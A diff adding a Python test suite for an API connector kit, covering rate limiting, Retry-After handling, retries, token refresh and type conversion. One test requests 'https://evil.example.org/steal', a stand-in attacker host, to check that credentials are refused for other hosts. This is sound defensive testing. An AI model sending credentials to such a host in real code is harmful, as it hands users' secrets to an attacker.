@@ -1,0 +1,159 @@
+"""The connector kit's shared machinery: pacing, retries, credentials, conversions, secrets."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from datetime import UTC, datetime
+from email.utils import format_datetime
+
+import httpx2
+import pytest
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import JSONResponse, Response
+from starlette.routing import Route
+
+from connectors.kit.convert import parse_datetime, to_scalar
+from connectors.kit.credentials import Credentials
+from connectors.kit.declaration import default_error
+from connectors.kit.errors import ProviderUnavailable, RateLimited
+from connectors.kit.http import ConnectionAccess, HttpKit, retry_after_seconds
+from connectors.kit.oauth import ApiKey
+from connectors.kit.ratelimit import RateLimit, RateLimiter
+from connectors.kit.sandbox import serve_in_thread
+
+
+async def test_rate_limiter_holds_requests_beyond_the_window() -> None:
+    limiter = RateLimiter(RateLimit(requests=3, per_seconds=0.3))
+    started = time.monotonic()
+    for _ in range(4):
+        await limiter.acquire()
+    assert time.monotonic() - started >= 0.25
+
+
+async def test_an_exhausted_window_header_pauses_the_connection() -> None:
+    limiter = RateLimiter(RateLimit(requests=100, per_seconds=0.3, remaining_header="X-Remaining"))
+    limiter.observe(httpx2.Headers({"X-Remaining": "0"}))
+    started = time.monotonic()
+    await limiter.acquire()
+    assert time.monotonic() - started >= 0.25
+
+
+def test_retry_after_reads_seconds_and_dates() -> None:
+    def response(value: str) -> httpx2.Response:
+        return httpx2.Response(429, headers={"Retry-After": value})
+
+    assert retry_after_seconds(response("3")) == 3.0
+    later = datetime.fromtimestamp(time.time() + 30, tz=UTC)
+    assert 25 <= (retry_after_seconds(response(format_datetime(later, usegmt=True))) or 0) <= 31
+    assert retry_after_seconds(response("soon")) is None
+    assert retry_after_seconds(httpx2.Response(429)) is None
+
+
+def _flaky_app(script: list[tuple[int, dict[str, str]]]) -> tuple[Starlette, list[float]]:
+    seen: list[float] = []
+
+    async def endpoint(request: Request) -> Response:
+        seen.append(time.monotonic())
+        status, headers = script[min(len(seen), len(script)) - 1]
+        assert request.headers["authorization"] == "Bearer key-123"
+        return JSONResponse({"ok": status < 400}, status_code=status, headers=headers)
+
+    return Starlette(routes=[Route("/thing", endpoint)]), seen
+
+
+def _access(base_url: str) -> ConnectionAccess:
+    return ConnectionAccess(
+        key="test",
+        auth=ApiKey(),
+        base_url=base_url,
+        credentials=Credentials(api_key="key-123"),
+        parse_error=default_error,
+        rate_limit=None,
+    )
+
+
+async def test_a_429_is_retried_after_the_time_the_provider_asks() -> None:
+    app, seen = _flaky_app([(429, {"Retry-After": "1"}), (200, {})])
+    kit = HttpKit(backoff_base=0.01, backoff_max=0.02)
+    try:
+        with serve_in_thread(app) as url:
+            body = await kit.session(_access(url)).get_json("/thing")
+    finally:
+        await kit.aclose()
+    assert body == {"ok": True}
+    assert len(seen) == 2
+    assert seen[1] - seen[0] >= 0.9
+
+
+async def test_retries_give_up_with_a_typed_error() -> None:
+    app, seen = _flaky_app([(503, {})])
+    kit = HttpKit(max_retries=2, backoff_base=0.01, backoff_max=0.02)
+    try:
+        with serve_in_thread(app) as url:
+            with pytest.raises(ProviderUnavailable):
+                await kit.session(_access(url)).get_json("/thing")
+            app429, _ = _flaky_app([(429, {})])
+            with serve_in_thread(app429) as url429, pytest.raises(RateLimited):
+                await kit.session(_access(url429)).get_json("/thing")
+    finally:
+        await kit.aclose()
+    assert len(seen) == 3
+
+
+async def test_credentials_are_never_sent_to_another_host() -> None:
+    kit = HttpKit()
+    try:
+        session = kit.session(_access("https://api.example.com"))
+        with pytest.raises(ValueError, match="another host"):
+            await session.get_json("https://evil.example.org/steal")
+    finally:
+        await kit.aclose()
+
+
+def test_refresh_keeps_the_old_refresh_token_when_none_comes_back() -> None:
+    before = Credentials(access_token="a1", refresh_token="r1", scopes=["x"])
+    after = Credentials.from_token_response({"access_token": "a2", "expires_in": 1800}, previous=before)
+    assert (after.access_token, after.refresh_token, after.scopes) == ("a2", "r1", ["x"])
+    assert after.expires_at is not None and after.expires_at > datetime.now(UTC)
+    assert Credentials.from_dict(after.to_dict()) == after
+
+
+@pytest.mark.parametrize(
+    ("raw", "target", "expected"),
+    [
+        ("42", int, 42),
+        ("42.5", float, 42.5),
+        ("17.0", int, 17),
+        ("true", bool, True),
+        ("", str, None),
+        (None, str, None),
+        (7, str, "7"),
+        ("1718841600000", datetime, datetime(2024, 6, 20, tzinfo=UTC)),
+        ("2024-06-20T00:57:37.690Z", datetime, datetime(2024, 6, 20, 0, 57, 37, 690000, tzinfo=UTC)),
+    ],
+)
+def test_provider_values_convert_to_common_types(raw: object, target: type, expected: object) -> None:
+    assert to_scalar(raw, target) == expected  # type: ignore[arg-type]
+
+
+def test_naive_timestamps_are_read_as_utc() -> None:
+    assert parse_datetime("2024-01-01T10:00:00") == datetime(2024, 1, 1, 10, tzinfo=UTC)
+
+
+async def test_concurrent_requests_share_one_limiter() -> None:
+    app, seen = _flaky_app([(200, {})])
+    kit = HttpKit()
+    access = _access("")
+    try:
+        with serve_in_thread(app) as url:
+            access.base_url = url
+            access.rate_limit = RateLimit(requests=2, per_seconds=0.3)
+            sessions = [kit.session(access) for _ in range(3)]
+            started = time.monotonic()
+            await asyncio.gather(*(s.get_json("/thing") for s in sessions))
+    finally:
+        await kit.aclose()
+    assert len(seen) == 3
+    assert time.monotonic() - started >= 0.25
